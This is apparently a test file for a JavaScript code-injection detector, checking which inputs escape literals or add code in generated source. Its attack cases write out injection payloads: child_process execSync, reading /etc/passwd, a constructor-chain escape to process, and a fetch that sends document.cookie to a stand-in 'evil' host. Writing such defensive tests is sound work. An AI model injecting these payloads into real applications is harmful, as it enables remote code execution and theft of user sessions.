import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectCodeInjection } from './detectCodeInjection.js';

function verdictOf(template: (input: string) => string, input: string): string {
  const verdict = detectCodeInjection(template(input), input);
  return verdict.attack ? verdict.reason : 'benign';
}

const inString = (input: string): string => `var name = '${input}'; greet(name);`;
const inDoubleString = (input: string): string => `greet("${input}")`;
const inTemplate = (input: string): string => `greet(\`hello ${input}!\`)`;
const bare = (input: string): string => `return ${input};`;
const inComment = (input: string): string => `x = 1; /* ${input} */ y = 2`;
const json = (input: string): string => `greet(${JSON.stringify(input)})`;

test('input that leaves its literal or adds code is an attack', () => {
  const cases: readonly (readonly [(input: string) => string, string, string])[] = [
    [inString, "'; process.exit(1); '", 'string-escape'],
    [inString, "x' + require('child_process').execSync('id') + '", 'string-escape'],
    [inString, 'x\\', 'string-escape'],
    [inDoubleString, '"); fetch("http://evil/" + document.cookie); ("', 'string-escape'],
    [inDoubleString, 'abc\\', 'string-escape'],
    [
      inTemplate,
      '${process.mainModule.require("child_process").execSync("id")}',
      'template-expression',
    ],
    [inTemplate, '` + evil() + `', 'string-escape'],
    [bare, '1; while(true){}', 'tokens-added'],
    [bare, 'require("fs").readFileSync("/etc/passwd")', 'tokens-added'],
    [bare, '2 * 3', 'tokens-added'],
    [bare, 'this.constructor.constructor("return process")()', 'tokens-added'],
    [bare, '{"a": 1}', 'tokens-added'],
    [bare, '1 // rest', 'comment'],
    // Literals whose delimiters the user chose, where a number or a name goes.
    [bare, "'a string'", 'type-change'],
    [(input) => `${input} * 9.99`, "'; process.version; '", 'type-change'],
    [(input) => `${input} * 9.99`, "' + process.version + '", 'type-change'],
    [bare, '/x/', 'type-change'],
    [bare, '`t`', 'type-change'],
    // A line break before the value ends `return` (automatic semicolon insertion).
    [bare, '\n1', 'tokens-added'],
    [inComment, '*/ evil() /*', 'comment'],
  ];
  for (const [template, input, reason] of cases) {
    assert.equal(verdictOf(template, input), reason, template(input));
  }
});

test('input that stays one value is benign, however odd it looks', () => {
  const cases: readonly (readonly [(input: string) => string, string])[] = [
    [inString, 'hello world'],
    [inString, 'a; b(); c'],
    [inString, 'say "hi" (twice)'],
    [inString, '${not a template}'],
    [inDoubleString, "O'Brien"],
    [inDoubleString, "it's `fine` // really"],
    [inTemplate, 'plain text; with (parens)'],
    [inTemplate, 'a "quoted" \'word\''],
    [bare, '42'],
    [bare, '-1'],
    [bare, '3.14'],
    [bare, '0x1F'],
    [bare, 'true'],
    [bare, ' 4 '],
    [bare, '5\n'],
    [(input) => `${input} * 9.99`, '\t-2 '],
    [bare, 'userName'],
    [inComment, 'any text / here'],
    [json, 'quotes " and \' and \\ backslash'],
    [json, "'); evil(); ('"],
    [json, 'line\nbreak'],
  ];
  for (const [template, input] of cases) {
    assert.equal(verdictOf(template, input), 'benign', template(input));
  }
});

test('input not found in the code, or too short to matter, is benign', () => {
  assert.equal(
    verdictOf(() => 'return 1 + 1', '1; evil()'),
    'benign',
  );
  assert.equal(verdictOf(bare, "'"), 'benign');
  assert.equal(detectCodeInjection('x', ''), detectCodeInjection('x', 'y'));
  assert.deepEqual(detectCodeInjection(null as unknown as string, 'x;y'), { attack: false });
});

test('reports where the input is', () => {
  const input = "1'; process.exit(); '";
  assert.deepEqual(detectCodeInjection(`x = '${input}'`, input), {
    attack: true,
    reason: 'string-escape',
    start: 5,
    end: 5 + input.length,
  });
});

test('hostile and huge input is answered in bounded time', () => {
  const huge = 'a'.repeat(100_000) + "'; evil(); '";
  const started = performance.now();
  assert.equal(verdictOf(inString, huge), 'string-escape');
  assert.equal(verdictOf(bare, '`${'.repeat(5_000)), 'tokens-added');
  assert.equal(verdictOf(inString, '\uD800\u0000\uFFFF x'), 'benign');
  assert.ok(performance.now() - started < 2_000);
});
